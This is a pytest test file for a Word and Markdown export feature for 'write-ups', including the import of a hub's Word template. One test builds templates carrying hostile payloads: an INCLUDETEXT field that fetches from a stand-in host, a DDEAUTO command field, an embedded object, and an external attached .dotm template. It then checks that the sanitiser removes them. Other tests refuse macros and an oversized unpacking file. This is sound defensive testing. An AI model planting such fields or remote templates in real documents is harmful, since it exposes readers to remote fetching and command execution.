"""The write-up as a Word file: the same words in real styles, in our page or the hub's, and nothing that runs."""

import io
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import docx
import pypdf
import pytest

from service.domain.looks import Look, Paper
from service.domain.places import Language
from service.domain.write_ups import Header, WriteUp
from service.errors import TooLarge, UnreadableFile
from service.library.importing.front_matter import split_front_matter
from service.pages.blocks import Document
from service.pages.exports import render_write_up, write_up_docx, write_up_markdown
from service.pages.word_template import read_template
from service.pages.write_up import Annex, AnnexOption, write_up_document
from tests.pages.conftest import HOSTILE, NAMES, SHOWN_AS, make_header, make_write_up

WORD = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"


def words(data: bytes) -> list[str]:
    """Every paragraph of the body in reading order, cells of tables too."""
    file = docx.Document(io.BytesIO(data))
    return ["".join(t.text or "" for t in p.iter(f"{WORD}t")) for p in file.element.body.iter(f"{WORD}p")]


def test_the_word_file_says_what_the_pdf_says_in_the_same_order(look: Look) -> None:
    document: Document = write_up_document(make_write_up(approved=True), make_header(), attribution=SHOWN_AS)
    text = "\n".join(words(write_up_docx(make_write_up(approved=True), make_header(), look=look, attribution=SHOWN_AS)))
    at = 0
    said = [each for each in document.texts() if each and each not in (document.kicker, document.footer)]
    for each in said[1:]:
        if each in (document.author, document.annex_title):
            continue
        found = text.find(each.split("\n")[0], at if each not in text[:at] else 0)
        assert found >= 0, each
    order = [text.index(each) for each in ("What we did", "The problem as asked", "What we learned", "Differently")]
    assert order == sorted(order)


def test_styles_headings_and_the_table_of_actions_are_real(look: Look) -> None:
    file = docx.Document(io.BytesIO(write_up_docx(make_write_up(), make_header(), look=look)))
    styles = [(p.style.name, p.text) for p in file.paragraphs if p.style is not None]
    assert ("Title", "Grants that are voted and never arrive") in styles
    assert [text for name, text in styles if name == "Heading 1"] == [
        "What we did",
        "What we learned",
        "What we will do",
    ]
    assert ("Heading 2", "What the peers offered") in styles
    assert any(name == "List Bullet" for name, _ in styles)
    (table,) = file.tables
    assert [[cell.text for cell in row.cells] for row in table.rows] == [
        ["What", "Who", "By when"],
        ["Agree the wording of the board with the chair", "Miriam Atieno", "by 15 June"],
        ["Ask the other eleven districts who would go next", "", ""],
    ]
    assert file.core_properties.title == "Grants that are voted and never arrive"
    assert file.core_properties.author == "Local finance team"
    assert file.core_properties.language == "en"
    footer = file.sections[0].footer.paragraphs[0]
    assert "Draft, not approved" in footer.text
    assert [field.get(f"{WORD}instr") for field in footer._p.iter(f"{WORD}fldSimple")] == ["PAGE", "NUMPAGES"]


def test_the_page_is_the_papers(look: Look) -> None:
    letter = look.model_copy(update={"paper": Paper.LETTER})
    for chosen, size in ((look, (210, 297)), (letter, (216, 279))):
        section = docx.Document(io.BytesIO(write_up_docx(make_write_up(), make_header(), look=chosen))).sections[0]
        assert section.page_width is not None
        assert section.page_height is not None
        assert (round(section.page_width.mm), round(section.page_height.mm)) == size


def test_right_to_left_words_are_marked_so(look: Look) -> None:
    file = docx.Document(
        io.BytesIO(write_up_docx(make_write_up(), make_header(title=NAMES[0], people=(NAMES[0],)), look=look))
    )
    title = next(p for p in file.paragraphs if p.text == NAMES[0])
    assert title._p.find(f".//{WORD}bidi") is not None
    assert title._p.find(f".//{WORD}rtl") is not None
    peers = next(p for p in file.paragraphs if p.text.startswith("Peers"))
    assert peers._p.find(f".//{WORD}bidi") is None
    assert peers.text.startswith(f"Peers\t{NAMES[0]} (Rift)\t")


@pytest.mark.parametrize("hostile", HOSTILE)
def test_peoples_words_are_words_in_word_and_in_markdown(hostile: str, look: Look) -> None:
    write_up = make_write_up(extra=f" {hostile}")
    assert sum(hostile in text for text in words(write_up_docx(write_up, make_header(), look=look))) >= 10
    text = write_up_markdown(write_up, make_header())
    assert not re.search(r"(?<!\\)[*<`]", text.split("---", 2)[2])


def test_the_same_words_give_the_same_file(look: Look, logo: bytes) -> None:
    first, second = (
        {name: archive.read(name) for name in archive.namelist()}
        for archive in (
            zipfile.ZipFile(io.BytesIO(write_up_docx(make_write_up(), make_header(), look=look, logo=logo)))
            for _ in range(2)
        )
    )
    assert first == second


PAGES: dict[str, tuple[WriteUp, Header]] = {
    "short": (make_write_up(), make_header()),
    "long": (make_write_up(times=3, approved=True), make_header()),
    "french": (make_write_up(language=Language.FR), make_header(language=Language.FR)),
    "right_to_left": (make_write_up(), make_header(title=NAMES[0], people=NAMES)),
}


@pytest.fixture(scope="module")
def printed(tmp_path_factory: pytest.TempPathFactory) -> dict[str, int]:
    """Pages of each as LibreOffice sets them, all in one run of it."""
    office = shutil.which("soffice")
    if office is None:
        pytest.skip("LibreOffice is not installed")
    folder = tmp_path_factory.mktemp("word")
    for name, (write_up, header) in PAGES.items():
        data = write_up_docx(write_up, header, look=Look(organisation="Hands Across Hubs"), attribution=SHOWN_AS)
        (folder / f"{name}.docx").write_bytes(data)
    profile = f"-env:UserInstallation=file://{folder / 'profile'}"
    files = [str(folder / f"{name}.docx") for name in PAGES]
    subprocess.run(
        [office, profile, "--headless", "--convert-to", "pdf", "--outdir", str(folder), *files],
        check=True,
        capture_output=True,
        timeout=300,
    )
    return {name: len(pypdf.PdfReader(Path(folder / f"{name}.pdf")).pages) for name in PAGES}


@pytest.mark.parametrize("name", PAGES)
def test_word_takes_as_many_pages_as_the_pdf_that_governs(name: str, printed: dict[str, int]) -> None:
    write_up, header = PAGES[name]
    counted = render_write_up(write_up, header, look=Look(organisation="Hands Across Hubs"), attribution=SHOWN_AS)
    assert abs(printed[name] - counted.pages) <= 1
    assert counted.pages > 2 or printed[name] <= 2


def template(*, more: dict[str, str] | None = None, replace: dict[str, tuple[str, str]] | None = None) -> bytes:
    """A hub's Word file: its own style, header and words, with parts added or words of a part replaced."""
    file = docx.Document()
    file.styles["Heading 1"].font.name = "Hub Face"
    file.sections[0].header.paragraphs[0].text = "Hub header"
    file.sections[0].page_width = docx.shared.Mm(200)
    file.add_paragraph("Last year's report")
    packed = io.BytesIO()
    file.save(packed)
    written = io.BytesIO()
    with zipfile.ZipFile(packed) as source, zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            content = source.read(name).decode("utf-8", "surrogateescape")
            for old, new in [(replace or {}).get(name, ("", ""))]:
                content = content.replace(old, new) if old else content
            target.writestr(name, content.encode("utf-8", "surrogateescape"))
        for name, content in (more or {}).items():
            target.writestr(name, content)
    return written.getvalue()


def test_a_hubs_template_gives_styles_header_and_page_and_none_of_its_text(look: Look) -> None:
    data = write_up_docx(make_write_up(), make_header(), look=look, word_template=template())
    file = docx.Document(io.BytesIO(data))
    assert file.styles["Heading 1"].font.name == "Hub Face"
    assert file.sections[0].header.paragraphs[0].text == "Hub header"
    assert round(file.sections[0].page_width.mm) == 200  # type: ignore[union-attr]
    text = "\n".join(words(data))
    assert "Last year" not in text
    assert "What we will do" in text
    assert "Miriam Atieno" in text


DANGEROUS = {
    "field": '<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;http://x.example/a&quot;"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>',
    "dde": '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\x "a"</w:instrText></w:r></w:p>',
    "object": "<w:p><w:r><w:object/></w:r></w:p>",
}


@pytest.mark.parametrize("what", DANGEROUS)
def test_what_runs_or_reaches_out_does_not_pass_a_template(what: str) -> None:
    data = template(
        replace={
            "word/header1.xml": ("</w:hdr>", DANGEROUS[what] + "</w:hdr>"),
            "word/settings.xml": (
                "</w:settings>",
                '<w:attachedTemplate xmlns:r="urn:r" r:id="rId99"/></w:settings>',
            ),
        },
        more={
            "word/embeddings/oleObject1.bin": "MZ",
            "word/_rels/settings.xml.rels": '<Relationships xmlns="urn:relationships">'
            '<Relationship Id="rId99" Type="http://x/attachedTemplate" '
            'Target="http://x.example/t.dotm" TargetMode="External"/></Relationships>',
        },
    )
    with zipfile.ZipFile(io.BytesIO(data)) as before:
        assert any(mark in before.read("word/header1.xml") for mark in (b"INCLUDETEXT", b"DDEAUTO", b"w:object"))
    with zipfile.ZipFile(io.BytesIO(read_template(data))) as archive:
        everything = b"".join(archive.read(name) for name in archive.namelist())
        assert not [name for name in archive.namelist() if "embeddings" in name]
    for mark in (b"INCLUDETEXT", b"DDEAUTO", b"w:object", b"x.example", b"attachedTemplate", b"External"):
        assert mark not in everything
    assert b"Hub header" in everything


def test_a_file_with_macros_is_refused() -> None:
    with pytest.raises(UnreadableFile):
        read_template(template(more={"word/vbaProject.bin": "x"}))


@pytest.mark.parametrize("data", [b"PK\x03\x04 broken", b"not a zip", b"%PDF-1.7"])
def test_what_is_no_word_file_is_refused(data: bytes) -> None:
    with pytest.raises(UnreadableFile):
        read_template(data)


def test_a_file_that_unpacks_to_far_more_is_refused() -> None:
    with pytest.raises(TooLarge):
        read_template(template(more={"word/media/image1.png": "0" * 60_000_000}))


def test_the_annex_is_in_the_word_file_too(look: Look) -> None:
    annex = Annex(options=(AnnexOption("Paint the month on the wall", "a peer, Rift"),))
    text = "\n".join(words(write_up_docx(make_write_up(), make_header(), look=look, annex=annex)))
    assert text.index("Annex") < text.index("Paint the month on the wall")


def test_an_exported_write_up_imports_again_with_the_same_words(look: Look) -> None:
    write_up = make_write_up(extra=f" {HOSTILE[0]} {HOSTILE[3]} 2 < 3 & 4 > 1", approved=True)
    exported = write_up_markdown(write_up, make_header(), attribution=SHOWN_AS)
    front = split_front_matter(exported)
    assert not front.bad_line
    assert front.values["title"] == "Grants that are voted and never arrive"
    assert front.values["visibility"] == "organisation"
    said = re.sub(r"\\(.)", r"\1", front.body)
    for line in write_up.body():
        assert line.claim.text in said
    headings = re.findall(r"^## (.+)$", exported, re.MULTILINE)
    assert headings == ["What we did", "What we learned", "What we will do"]
